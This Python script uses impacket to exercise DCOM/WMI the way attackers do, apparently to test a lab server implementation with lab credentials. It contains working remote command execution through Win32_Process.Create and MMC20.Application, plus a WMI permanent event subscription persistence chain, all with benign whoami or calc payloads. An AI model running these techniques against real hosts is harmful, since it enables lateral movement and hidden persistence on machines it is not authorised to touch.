#!/usr/bin/python3
"""Remote objects as attackers use them, through impacket's client.

usage: objects.py STORY [--level integrity|privacy|none] [--target ADDRESS]

Stories: process (Win32_Process.Create and queries), subscription (a permanent event subscription),
sample (an object with every type, plain and in a smart enumeration), shell (MMC20.Application),
asynchronous (ExecQueryAsync and ExecMethodAsync: the server calls a sink here).
"""

import argparse
import os
import struct
import sys
import threading
import time

from impacket.dcerpc.v5 import dcomrt, rpcrt
from impacket.dcerpc.v5.dcom import oaut, wmi
from impacket.dcerpc.v5.dtypes import GUID, LONG, NULL, ULONG
from impacket.uuid import string_to_bin

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "server"))
import ntlm_acceptor
import objects
import rpc_server
import sinks
import wmi as service

LEVELS = {"none": rpcrt.RPC_C_AUTHN_LEVEL_NONE, "integrity": rpcrt.RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
          "privacy": rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY}
SID = [1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0]


def login(connection, name_space):
    made = connection.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login)
    granted = made.RemQueryInterface(1, (wmi.IID_IWbemLevel1Login,))
    services = wmi.IWbemLevel1Login(granted).NTLMLogin(f"//./{name_space}", NULL, NULL)
    made.RemRelease()
    return services


def rows(enumerator, count):
    while True:
        try:
            yield from enumerator.Next(0xFFFFFFFF, count)
        except Exception as error:
            if "S_FALSE" not in str(error):
                raise
            return


def process(connection):
    services = login(connection, "root/cimv2")
    for row in rows(services.ExecQuery("SELECT Name, ProcessId FROM Win32_Process"), 1):
        print(row.Name, row.ProcessId)
    what, _ = services.GetObject("Win32_Process")
    result = what.Create("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1", "C:\\", None)
    print("process", result.ProcessId, "result", result.ReturnValue)
    services.ExecMethod('Win32_Process.Handle="4312"', "Terminate")
    try:
        services.GetObject("Win32_NoSuchClass")
    except Exception as error:
        print(error)


def subscription(connection):
    services = login(connection, "root/subscription")
    made, _ = services.GetObject("__EventFilter")
    made = made.SpawnInstance()
    made.Name, made.QueryLanguage, made.CreatorSID = "Updater", "WQL", SID
    made.EventNamespace = "root\\cimv2"
    made.Query = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                  "'Win32_PerfFormattedData_PerfOS_System'")
    put(services, made)
    made, _ = services.GetObject("CommandLineEventConsumer")
    made = made.SpawnInstance()
    made.Name, made.CreatorSID = "Updater", SID
    made.CommandLineTemplate = "C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\u.bat"
    put(services, made)
    made, _ = services.GetObject("ActiveScriptEventConsumer")
    made = made.SpawnInstance()
    made.Name, made.CreatorSID, made.ScriptingEngine = "Script", SID, "VBScript"
    made.ScriptText = 'CreateObject("WScript.Shell").Run "calc.exe"'
    put(services, made)
    made, _ = services.GetObject("__FilterToConsumerBinding")
    made = made.SpawnInstance()
    made.CreatorSID = SID
    made.Filter = '__EventFilter.Name="Updater"'
    made.Consumer = 'CommandLineEventConsumer.Name="Updater"'
    put(services, made)
    services.DeleteInstance('__EventFilter.Name="Updater"')


def put(services, instance):
    if services.PutInstance(instance.marshalMe()).GetCallStatus(0) != 0:
        sys.exit("PutInstance failed")


def context():
    """An IWbemContext with two values ([MS-WMI] 2.2.13), as PowerShell sends one along."""
    def text(value):
        return struct.pack("<I", len(value)) + value.encode("utf-16le")
    values = (text("__ProviderArchitecture") + struct.pack("<IHQ", 0, 3, 64) +
              text("__CorrelationId") + struct.pack("<IH", 0, 8) +
              text("{5F0C1A57-7A2D-4C0B-9E55-0C0FFEE00001}"))
    custom = dcomrt.OBJREF_CUSTOM()
    custom["iid"] = wmi.IID_IWbemContext[:16]
    custom["clsid"] = string_to_bin("674B6698-EE92-11D0-AD71-00C04FD8FDFF")
    custom["cbExtension"] = 0
    custom["pObjectData"] = struct.pack("<I", 1) + bytes(16) + struct.pack("<I", 2) + values
    custom["ObjectReferenceSize"] = len(custom["pObjectData"])
    data = custom.getData()
    pointer = dcomrt.PMInterfacePointer()
    pointer["ulCntData"], pointer["abData"] = len(data), [bytes([byte]) for byte in data]
    return pointer


def sample(connection):
    services = login(connection, "root/lab")
    # impacket cannot read floating point numbers: the answer is for whoever listens.
    found = services.ExecQuery("SELECT * FROM Lab_Sample", pCtx=context())
    call = wmi.IEnumWbemClassObject_Next()
    call["lTimeout"], call["uCount"] = 0xFFFFFFFF, 1
    found.request(call, wmi.IID_IEnumWbemClassObject, found.get_iPid())
    # It has the calls of the smart enumeration but no methods for them.
    found = services.ExecQuery("SELECT * FROM Win32_Process")
    source = found.RemQueryInterface(1, (wmi.IID_IWbemFetchSmartEnum,))
    answer = source.request(wmi.IWbemFetchSmartEnum_GetSmartEnum(), wmi.IID_IWbemFetchSmartEnum,
                            source.get_iPid())
    smart = wmi.IRemUnknown(dcomrt.INTERFACE(
        found.get_cinstance(), b"".join(answer["ppSmartEnum"]["abData"]),
        found.get_ipidRemUnknown(), target=found.get_target()))
    wmi.IWbemWCOSmartEnum_Next.structure = (  # impacket's has a pointer too many.
        ("proxyGUID", GUID), ("lTimeout", LONG), ("uCount", ULONG))
    for _ in range(3):
        call = wmi.IWbemWCOSmartEnum_Next()
        call["proxyGUID"] = string_to_bin("b2c9d9a4-7f0e-4c55-9d0b-3e6f1a2b4c5d")
        call["lTimeout"], call["uCount"] = -1, 2
        try:
            smart.request(call, wmi.IID_IWbemWCOSmartEnum, smart.get_iPid())
        except Exception as error:  # It says S_FALSE at the end, in an answer impacket cannot read.
            print(error)


class SinkHere:
    """A sink that the server can call: prints what it is told."""

    def __init__(self, address="10.77.0.2", port=49800):
        self.ended = threading.Event()
        # Objects of another machine: another process, other IPIDs.
        objects.OXID = 0x5A17C11E00000001
        objects.REMUNKNOWN = objects.binary("00008000-0a34-0000-91c2-7e04d5b86a31")
        rpc_server.listen(
            address, port, {(sinks.SINK, 0): {3: self.indicate, 4: self.set_status}},
            lambda: ntlm_acceptor.Acceptor("CL", "CONTOSO", {"FS1$": "Machine.2026"}))
        data = objects.objref(objects.binary(sinks.SINK), objects.hand_out(self), address, "CL", port)
        self.pointer = dcomrt.PMInterfacePointer()
        self.pointer["ulCntData"], self.pointer["abData"] = len(data), [bytes([b]) for b in data]

    def indicate(self, call):
        print("indicated", struct.unpack_from("<I", call.stub, 32)[0])
        return objects.answer(b"", objects.OK)

    def set_status(self, call):
        self.ended.set()
        return objects.answer(b"", objects.OK)

    def wait(self):
        if not self.ended.wait(10):
            sys.exit("the sink was not called")
        self.ended.clear()
        time.sleep(0.2)  # The answer to SetStatus is on its way.


def asynchronous(connection):
    services = login(connection, "root/cimv2")
    sink = SinkHere()
    call = wmi.IWbemServices_ExecQueryAsync()
    call["strQueryLanguage"]["asData"] = "WQL"
    call["strQuery"]["asData"] = "SELECT * FROM Win32_Process"
    call["lFlags"], call["pCtx"], call["pResponseHandler"] = 0, NULL, sink.pointer
    services.request(call, services._iid, services.get_iPid())
    sink.wait()
    call = wmi.IWbemServices_ExecMethodAsync()
    call["strObjectPath"]["asData"], call["strMethodName"]["asData"] = "Win32_Process", "Create"
    call["lFlags"], call["pCtx"] = 0, NULL
    call["pInParams"] = command("cmd.exe /c whoami")
    call["pResponseHandler"] = sink.pointer
    services.request(call, services._iid, services.get_iPid())
    sink.wait()


def command(line):
    """In parameters of Win32_Process.Create."""
    shape = next(m for m in service.PROCESS.methods if m.name == "Create").inputs
    data = service.by_value(service.wmio.instance_block(
        service.Class("__PARAMETERS", properties=shape), {"CommandLine": line}, decorated=False))
    pointer = dcomrt.PMInterfacePointer()
    pointer["ulCntData"], pointer["abData"] = len(data), [bytes([b]) for b in data]
    return pointer


def shell(connection):
    made = connection.CoCreateInstanceEx(string_to_bin("49B2791A-B1AE-4C90-9B8E-E860BA07F889"),
                                         oaut.IID_IDispatch)
    nothing = oaut.DISPPARAMS(None, False)
    nothing["rgvarg"] = nothing["rgdispidNamedArgs"] = NULL
    nothing["cArgs"] = nothing["cNamedArgs"] = 0
    target = oaut.IDispatch(made)
    for name in ("Document", "ActiveView"):
        number = target.GetIDsOfNames((name,))[0]
        answer = target.Invoke(number, 0x409, oaut.DISPATCH_PROPERTYGET, nothing, 0, [], [])
        data = b"".join(answer["pVarResult"]["_varUnion"]["pdispVal"]["abData"])
        target = oaut.IDispatch(dcomrt.INTERFACE(
            made.get_cinstance(), data, made.get_ipidRemUnknown(), target=made.get_target()))
    number = target.GetIDsOfNames(("ExecuteShellCommand",))[0]
    call = oaut.DISPPARAMS(None, False)
    call["rgdispidNamedArgs"], call["cArgs"], call["cNamedArgs"] = NULL, 4, 0
    for text in ("7", "/Q /c whoami", "C:\\windows\\system32", "cmd.exe"):  # Last argument first.
        argument = oaut.VARIANT(None, False)
        argument["clSize"], argument["vt"] = 5, oaut.VARENUM.VT_BSTR
        argument["_varUnion"]["tag"] = oaut.VARENUM.VT_BSTR
        argument["_varUnion"]["bstrVal"]["asData"] = text
        call["rgvarg"].append(argument)
    target.Invoke(number, 0x409, oaut.DISPATCH_METHOD, call, 0, [], [])


STORIES = {function.__name__: function for function in (process, subscription, sample, shell, asynchronous)}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("story", choices=STORIES)
    parser.add_argument("--level", choices=LEVELS, default="integrity")
    parser.add_argument("--target", default="10.77.0.4")
    options = parser.parse_args()
    connection = dcomrt.DCOMConnection(options.target, "jdoe", "Winter.2026", "CONTOSO",
                                       authLevel=LEVELS[options.level])
    STORIES[options.story](connection)
    connection.disconnect()


if __name__ == "__main__":
    main()
